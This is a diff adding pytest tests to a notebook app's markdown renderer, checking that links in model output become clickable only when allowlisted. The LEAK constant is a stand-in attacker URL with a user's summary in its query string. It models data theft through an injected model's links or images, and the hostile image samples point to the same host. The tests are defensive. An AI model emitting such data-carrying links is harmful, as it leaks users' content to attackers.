@@ -6,7 +6,7 @@ from urllib.parse import urlsplit
 
 import pytest
 
-from notebook.markdown import ALLOWED_TAGS, render_markdown
+from notebook.markdown import ALLOWED_TAGS, link_targets, render_markdown
 from tests.factories import NotebookFactory, NoteFactory
 
 HOSTILE = """# Title
@@ -203,3 +203,73 @@ def test_raw_html_and_entities_stay_text():
     html = str(render_markdown(HOSTILE_SAMPLES["entity-img"] + " " + HOSTILE_SAMPLES["raw-img"]))
     assert "&lt;img src=https://attacker.example/e.png&gt;" in html
     assert '&lt;img src="https://attacker.example/raw.png"&gt;' in html
+
+
+# --- Model output: only the links it was allowed (chat.citations.allowed_links) are links.
+SOURCE_URL = "https://example.org/guide?page=2"
+LEAK = "https://attacker.example/p?d=Alice%27s%20summary"
+
+
+def anchors(html: str) -> list[tuple[str, dict[str, str]]]:
+    return [(tag, attrs) for tag, attrs in elements(html) if tag == "a"]
+
+
+def test_model_output_keeps_an_allowed_link_with_rel():
+    html = str(render_markdown(f"See [the guide]({SOURCE_URL}).", links=[SOURCE_URL]))
+    [(_, attrs)] = anchors(html)
+    assert attrs["href"] == SOURCE_URL
+    assert attrs["rel"] == "noopener noreferrer nofollow"
+
+
+def test_model_output_shows_a_disallowed_link_as_text():
+    html = str(render_markdown(f"Done: [summary]({LEAK}) and [guide]({SOURCE_URL})", links=[]))
+    assert anchors(html) == []
+    assert "summary (https://attacker.example/p?d=Alice's summary)" in html.replace("&#x27;", "'")
+
+
+def test_model_output_never_links_an_image():
+    source = f"![x]({LEAK}) ![]({SOURCE_URL}) [![logo](https://attacker.example/i.png)](/x)"
+    html = str(render_markdown(source, links=[LEAK, SOURCE_URL]))
+    assert anchors(html) == []
+    assert "x (https://attacker.example/p?d=Alice's summary)" in html.replace("&#x27;", "'")
+    assert f"{SOURCE_URL} logo (/x)" in html.replace("&amp;", "&")
+
+
+def test_model_output_autolinks_follow_the_allowlist():
+    html = str(render_markdown(f"<{SOURCE_URL}> <{LEAK}> <me@example.org>", links=[SOURCE_URL]))
+    assert [attrs["href"] for _, attrs in anchors(html)] == [SOURCE_URL]
+    assert "https://attacker.example/p?d=Alice's summary" in html.replace("&#x27;", "'")
+    assert "me@example.org" in html
+
+
+def test_model_output_reference_links_follow_the_allowlist():
+    source = f"[ok][a] and [leak][b]\n\n[a]: {SOURCE_URL}\n[b]: {LEAK}"
+    html = str(render_markdown(source, links=link_targets(f"<{SOURCE_URL}>")))
+    assert [attrs["href"] for _, attrs in anchors(html)] == [SOURCE_URL]
+    assert "leak (https://attacker.example/" in html
+
+
+def test_model_output_link_in_code_stays_code():
+    html = str(render_markdown(f"`[x]({LEAK})`\n\n```\n[y]({LEAK})\n```", links=[LEAK]))
+    assert anchors(html) == []
+    assert f"<code>[x]({LEAK})</code>" in html
+
+
+def test_link_targets_are_what_the_renderer_compares():
+    source = f"[a](<https://example.org/a b>) <https://例え.jp/x> ![i]({LEAK}) [r][r]\n\n[r]: /rel"
+    targets = link_targets(source)
+    assert targets == ["https://example.org/a%20b", "https://xn--r8jz45g.jp/x", "/rel"]
+    html = str(render_markdown(source, links=targets))
+    assert [attrs["href"] for _, attrs in anchors(html)] == targets
+
+
+def test_notes_keep_their_links_and_image_links():
+    html = str(render_markdown(f"[a]({LEAK}) ![b]({SOURCE_URL})"))
+    assert [attrs["href"] for _, attrs in anchors(html)] == [LEAK, SOURCE_URL]
+
+
+@pytest.mark.parametrize("name", sorted(HOSTILE_SAMPLES))
+def test_hostile_sample_as_model_output_has_no_link(name):
+    html = str(render_markdown(HOSTILE_SAMPLES[name], links=[]))
+    assert_inert(html)
+    assert anchors(html) == []
